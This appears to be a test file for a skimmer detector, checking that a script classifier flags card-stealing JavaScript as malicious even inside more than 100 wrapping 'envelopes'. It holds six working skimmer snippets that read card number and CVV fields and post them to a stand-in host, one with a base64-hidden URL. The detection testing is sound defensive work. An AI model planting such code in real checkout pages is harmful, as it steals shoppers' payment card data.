// A skimmer keeps its verdict in every envelope: exceptions, counters, queues, promises, and conditions that look false.
import { atDepth } from '@tillwatch/testbed/depth'
import { describe, expect, it } from 'vitest'
import { judgeScript } from '#detection/index.ts'
import { envelopes } from './envelopes.ts'

const sent = `fetch('https://usage-stats.example/u', { method: 'POST', body: document.querySelector('[name=cardnumber]').value });`
const skimmers: readonly (readonly [string, string])[] = [
  ['one that sends at once', sent],
  ['one that listens', `document.querySelector('#cc-number').addEventListener('change', function () { ${sent} });`],
  ['an image', `new Image().src = 'https://usage-stats.example/p?c=' + encodeURIComponent(document.querySelector('#card-number').value);`],
  [
    'one that hides its host',
    `navigator.sendBeacon(atob('${btoa('https://usage-stats.example/b')}'), document.getElementById('cvv').value + '|' + document.getElementById('cc-number').value);`,
  ],
  [
    'one that gathers',
    `var kept = {}; document.querySelectorAll('input[name*="card"]').forEach(function (f) { kept[f.name] = f.value }); var x = new XMLHttpRequest(); x.open('POST', 'https://usage-stats.example/x'); x.send(JSON.stringify(kept));`,
  ],
  ['jQuery', `$.post('https://usage-stats.example/j', { n: $('#cc_number').val(), c: $('#cc_cvv').val() });`],
]

describe.each(skimmers.slice(0, atDepth(3, skimmers.length)))('%s', (_name, code) => {
  it('is malicious without an envelope', () => expect(judgeScript(code).verdict).toBe('malicious'))

  it.each(envelopes.map((wrap) => [wrap('SKIMMER'), wrap] as const))('is malicious in %s', (_wrapped, wrap) => {
    const { verdict, parsed } = judgeScript(wrap(code))
    expect({ verdict, parsed }).toEqual({ verdict: 'malicious', parsed: 'whole' })
  })
})

it('has at least 100 different envelopes', () => {
  const wrapped = new Set(envelopes.map((wrap) => wrap(sent)))
  expect(wrapped.size).toBe(envelopes.length)
  expect(wrapped.size).toBeGreaterThanOrEqual(100)
})

it('does not flag code that never runs as malicious', () => {
  expect(judgeScript(`var n = 1; if (n > 2) { ${sent} }`).verdict).toBe('benign')
})
